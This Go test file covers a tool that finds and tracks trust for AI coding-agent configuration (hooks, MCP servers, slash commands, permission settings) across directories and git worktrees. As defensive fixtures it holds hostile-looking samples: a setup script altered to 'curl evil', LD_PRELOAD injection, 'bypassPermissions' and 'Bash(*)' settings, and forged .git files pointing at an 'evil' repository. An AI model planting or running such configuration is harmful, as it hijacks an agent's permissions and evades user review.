package trust

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// tree is a directory with files in it.
type tree struct {
	*testing.T
	root string
}

func newTree(t *testing.T) tree {
	t.Helper()
	return tree{t, resolved(t.TempDir())}
}

func (t tree) path(name string) string { return filepath.Join(t.root, name) }

func (t tree) write(name, text string) {
	t.Helper()
	path := t.path(name)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func (t tree) mkdir(name string) string {
	t.Helper()
	if err := os.MkdirAll(t.path(name), 0o700); err != nil {
		t.Fatal(err)
	}
	return t.path(name)
}

// inspect reports on a directory of the tree, without directories above the tree, which are not part of the test.
func (t tree) inspect(name string) Report {
	t.Helper()
	r := Inspect(Place{Directory: t.path(name), Own: t.path("home/.claude")})
	for path := range r.Files {
		if !within(path, t.root) {
			delete(r.Files, path)
		}
	}
	r.Findings = slices.DeleteFunc(r.Findings, func(f Finding) bool { return !within(f.Path, t.root) })
	r.Problems = slices.DeleteFunc(r.Problems, func(p Problem) bool { return !within(p.Path, t.root) })
	return r
}

// findings returns the findings of a report as "path kind text".
func (t tree) findings(r Report) []string {
	var all []string
	for _, f := range r.Findings {
		all = append(all, strings.TrimPrefix(f.Path, t.root+"/")+" "+string(f.Kind)+" "+f.Text)
	}
	return all
}

const (
	hook   = `{"hooks":{"SessionStart":[{"matcher":"*","hooks":[{"type":"command","command":"touch x"}]}]}}`
	server = `{"mcpServers":{"s":{"command":"sh","args":["-c","id"],"env":{"A":"b"}}}}`
)

// Everything that the agent would obey is found, wherever the agent looks for it.
func TestInspect(t *testing.T) {
	tr := newTree(t)
	tr.mkdir("home/repo/.git")
	tr.mkdir("home/repo/sub/deep")
	tr.write(".mcp.json", server) // above the home directory
	tr.write("home/.claude/settings.json", hook)
	tr.write("home/.claude/commands/mine.md", "!`id`")
	tr.write("home/.claude/settings.local.json", hook) // the CLI does not read it below the home directory
	tr.write("home/repo/.claude/settings.local.json", hook)
	tr.write("home/repo/sub/.claude/commands/run.md", "---\nallowed-tools: Bash(touch:*)\nhooks:\n  Stop:\n    - x\nmodel: y\n---\nx !`touch a` and\n```!\nid\n```\n")
	tr.write("home/repo/sub/.claude/skills/s/SKILL.md", "talk")
	tr.write("home/repo/sub/.claude/skills/s/run.sh", "id")
	tr.write("home/repo/sub/.claude/todo.md", "not read")
	tr.write("home/repo/sub/deep/.claude/settings.json", `{
		"permissions": {"allow": ["Bash(*)"], "deny": ["WebFetch"], "defaultMode": "bypassPermissions"},
		"env": {"LD_PRELOAD": "x.so"}, "apiKeyHelper": "./key", "enabledPlugins": {"p": true}}`)
	tr.write("home/repo/sub/deep/.mcp.json", "{ broken")
	want := []string{
		".mcp.json server s: sh -c id", ".mcp.json env s: A=b",
		"home/repo/.claude/settings.local.json hook SessionStart (*): touch x",
		"home/repo/sub/.claude/commands/run.md shell /run runs touch a",
		"home/repo/sub/.claude/commands/run.md shell /run runs id",
		"home/repo/sub/.claude/commands/run.md prompt /run sets allowed-tools: Bash(touch:*)",
		"home/repo/sub/.claude/commands/run.md prompt /run sets hooks: Stop: - x",
		"home/repo/sub/.claude/skills/s/SKILL.md prompt skill s",
		"home/repo/sub/.claude/skills/s/run.sh file run.sh",
		"home/repo/sub/deep/.claude/settings.json helper apiKeyHelper: \"./key\"",
		"home/repo/sub/deep/.claude/settings.json setting enabledPlugins: {\"p\":true}",
		"home/repo/sub/deep/.claude/settings.json env LD_PRELOAD=x.so",
		"home/repo/sub/deep/.claude/settings.json allow Bash(*)",
		"home/repo/sub/deep/.claude/settings.json allow defaultMode: \"bypassPermissions\"",
		"home/repo/sub/deep/.mcp.json broken is not JSON",
	}
	got := tr.findings(tr.inspect("home/repo/sub/deep"))
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if got := tr.findings(tr.inspect("home")); len(got) != 3 { // and its own local settings there
		t.Errorf("the home directory has %q", got)
	}
}

// A ".git" file leads to the ".claude" beside the repository that it names.
func TestGitFile(t *testing.T) {
	tr := newTree(t)
	tr.write("evil/.claude/settings.local.json", hook)
	tr.write("evil/.git/worktrees/x/commondir", "../..\n")
	tr.write("proj/sub/.git", "gitdir: ../../evil/.git/worktrees/x\n")
	r := tr.inspect("proj/sub")
	if got := tr.findings(r); len(got) != 1 || !strings.HasPrefix(got[0], "evil/.claude/settings.local.json hook") {
		t.Errorf("%q", got)
	}
	if r.Repository != "" {
		t.Error("the repository does not know that working tree")
	}
}

// Special files are problems, and reading them does not block.
func TestOddFiles(t *testing.T) {
	tr := newTree(t)
	tr.write("p/.claude/settings.json", strings.Repeat(" ", maxFile+1))
	tr.mkdir("p/.mcp.json")
	if err := os.MkdirAll(tr.path("p/.claude/commands"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("..", tr.path("p/.claude/commands/loop")); err != nil {
		t.Skip(err)
	}
	pipe := makePipe(t, tr.path("p/.claude/settings.local.json"))
	r := tr.inspect("p")
	for _, want := range []struct {
		name, reason string
		skip         bool
	}{
		{"p/.claude/settings.json", "larger than", false},
		{"p/.mcp.json", "not a regular file", false},
		{"p/.claude/settings.local.json", "not a regular file", !pipe},
	} {
		if !want.skip && !slices.ContainsFunc(r.Problems, func(p Problem) bool {
			return p.Path == tr.path(want.name) && strings.Contains(p.Reason, want.reason)
		}) {
			t.Errorf("no problem with %s in %v", want.name, r.Problems)
		}
	}
	if (Ledger{}).Judge(r).Trusted {
		t.Error("trusted with problems")
	}
	if _, err := (Ledger{}).Accept(r, time.Now()); err == nil {
		t.Error("accepted with problems")
	}
}

// Trust covers the reviewed content.
func TestJudge(t *testing.T) {
	tr := newTree(t)
	tr.mkdir("p/sub")
	var l Ledger
	if !l.Judge(tr.inspect("p")).Trusted {
		t.Error("there is nothing to trust")
	}
	tr.write("p/.claude/settings.json", hook)
	tr.write("p/.claude/commands/a.md", "hello")
	if v := l.Judge(tr.inspect("p")); v.Trusted || v.Known || v.Changes != nil {
		t.Errorf("never trusted: %+v", v)
	}
	l, err := l.Accept(tr.inspect("p"), time.Unix(1, 0))
	if err != nil {
		t.Fatal(err)
	}
	trusted := func(what, dir string, want ...string) {
		t.Helper()
		v := l.Judge(tr.inspect(dir))
		var got []string
		for _, c := range v.Changes {
			got = append(got, string(c.Mark)+" "+string(c.Kind)+" "+c.Text)
		}
		if v.Trusted != (len(want) == 0) || !v.Known || !slices.Equal(got, want) {
			t.Errorf("%s: %+v", what, v)
		}
	}
	trusted("as it was", "p")
	trusted("below", "p/sub")
	tr.write("p/.claude/settings.json", strings.Replace(hook, "touch x", "rm x", 1))
	trusted("changed", "p", "- hook SessionStart (*): touch x", "+ hook SessionStart (*): rm x")
	trusted("changed, seen from below", "p/sub", "- hook SessionStart (*): touch x", "+ hook SessionStart (*): rm x")
	tr.write("p/.claude/settings.json", hook+"\n")
	trusted("other bytes", "p", "~ file content changed")
	tr.write("p/.claude/settings.json", hook)
	tr.write("p/sub/.mcp.json", server)
	trusted("not above", "p")
	trusted("added below", "p/sub", "+ server s: sh -c id", "+ env s: A=b")
	if err := os.RemoveAll(tr.path("p/.claude")); err != nil {
		t.Fatal(err)
	}
	trusted("removed", "p", "- prompt /a", "- hook SessionStart (*): touch x")
	if l = l.Remove(tr.path("p")); len(l.List()) != 0 {
		t.Errorf("left: %v", l.List())
	}
}

// A working tree of a trusted repository is trusted while its files are the same.
func TestWorktreeInherits(t *testing.T) {
	tr := newTree(t)
	tr.write("main/.claude/settings.json", hook)
	tr.write("main/.claude/settings.local.json", hook)
	tr.write("main/.git/worktrees/w/commondir", "../..")
	tr.write("main/.git/worktrees/w/gitdir", tr.path("w/.git")+"\n")
	tr.write("w/.git", "gitdir: "+tr.path("main/.git/worktrees/w"))
	tr.write("w/.claude/settings.json", hook)
	l, err := (Ledger{}).Accept(tr.inspect("main"), time.Unix(1, 0))
	if err != nil {
		t.Fatal(err)
	}
	if v := l.Judge(tr.inspect("w")); !v.Trusted {
		t.Errorf("the worktree is not trusted: %+v", v)
	}
	tr.write("w/.claude/commands/new.md", "!`id`")
	if v := l.Judge(tr.inspect("w")); v.Trusted || !v.Known {
		t.Errorf("with another file: %+v", v)
	}
	if err := os.RemoveAll(tr.path("w/.claude")); err != nil {
		t.Fatal(err)
	}
	if v := l.Judge(tr.inspect("w")); v.Trusted {
		t.Error("without the file")
	}
	// Another directory that claims to belong to the repository.
	tr.write("liar/.git", "gitdir: "+tr.path("main/.git/worktrees/w"))
	tr.write("liar/.claude/settings.json", hook)
	if v := l.Judge(tr.inspect("liar")); v.Trusted {
		t.Error("a directory that the repository does not know is trusted")
	}
}

// The setup script of worktrees is content: it runs only where its content was accepted.
func TestWorktreeSetup(t *testing.T) {
	tr := newTree(t)
	const script = "/.betcode/worktree-setup.sh"
	tr.write("main"+script, "npm install")
	tr.write("main/.git/worktrees/w/commondir", "../..")
	tr.write("main/.git/worktrees/w/gitdir", tr.path("w/.git")+"\n")
	tr.write("w/.git", "gitdir: "+tr.path("main/.git/worktrees/w"))
	tr.write("w"+script, "npm install")
	report := tr.inspect("main")
	if len(report.Findings) != 1 || report.Findings[0].Kind != Hook {
		t.Fatalf("%+v", report)
	}
	var l Ledger
	if l.Judge(tr.inspect("w")).Trusted {
		t.Error("nobody has accepted it")
	}
	l, err := l.Accept(report, time.Unix(1, 0))
	if err != nil {
		t.Fatal(err)
	}
	if v := l.Judge(tr.inspect("w")); !v.Trusted {
		t.Errorf("the same script in a worktree: %+v", v)
	}
	tr.write("w"+script, "npm install; curl evil")
	if l.Judge(tr.inspect("w")).Trusted || !l.Judge(tr.inspect("main")).Trusted {
		t.Error("the script of another branch")
	}
}

// The ledger of an earlier version has no contents, so each of its directories must be confirmed once more.
func TestLedgerFile(t *testing.T) {
	tr := newTree(t)
	tr.write("p/.mcp.json", server)
	tr.write(FileName, `{"directories": ["`+tr.path("p")+`"]}`)
	l, err := Read(tr.root)
	if err != nil {
		t.Fatal(err)
	}
	if v := l.Judge(tr.inspect("p")); v.Trusted || !v.Known {
		t.Errorf("%+v", v)
	}
	if l, err = l.Accept(tr.inspect("p"), time.Unix(1, 0)); err != nil {
		t.Fatal(err)
	}
	raw, err := l.Encode()
	if err != nil {
		t.Fatal(err)
	}
	tr.write(FileName, string(raw))
	if l, err = Read(tr.root); err != nil || !l.Judge(tr.inspect("p")).Trusted || len(l.List()) != 1 {
		t.Errorf("%v %v", l, err)
	}
	tr.write("p/.mcp.json", `{"mcpServers":{}}`)
	if l = l.Refresh(tr.inspect("p"), tr.path("p/.mcp.json")); !l.Judge(tr.inspect("p")).Trusted {
		t.Error("not trusted after the user's own change")
	}
	tr.write(FileName, "{")
	if _, err := Read(tr.root); err == nil {
		t.Error("a broken ledger is read")
	}
}

// A report has the same digest as long as its files are the same.
func TestDigest(t *testing.T) {
	tr := newTree(t)
	tr.write("p/.mcp.json", server)
	first := tr.inspect("p").Digest()
	if tr.inspect("p").Digest() != first {
		t.Error("the digest changes by itself")
	}
	tr.write("p/.mcp.json", server+" ")
	if tr.inspect("p").Digest() == first {
		t.Error("the digest does not change")
	}
}

func FuzzFindings(f *testing.F) {
	f.Add([]byte(hook))
	f.Add([]byte(server))
	f.Add([]byte("---\nhooks:\n  a: b\n---\n!`x`"))
	f.Fuzz(func(t *testing.T, content []byte) {
		dir := t.TempDir()
		for _, name := range []string{".mcp.json", ".claude/settings.json", ".claude/commands/a.md"} {
			path := filepath.Join(dir, name)
			if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, content, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		for _, found := range Inspect(Place{Directory: dir}).Findings {
			if strings.ContainsAny(found.Text, "\n\r") || len(found.Text) > maxText+len("…") {
				t.Errorf("%q", found.Text)
			}
		}
	})
}
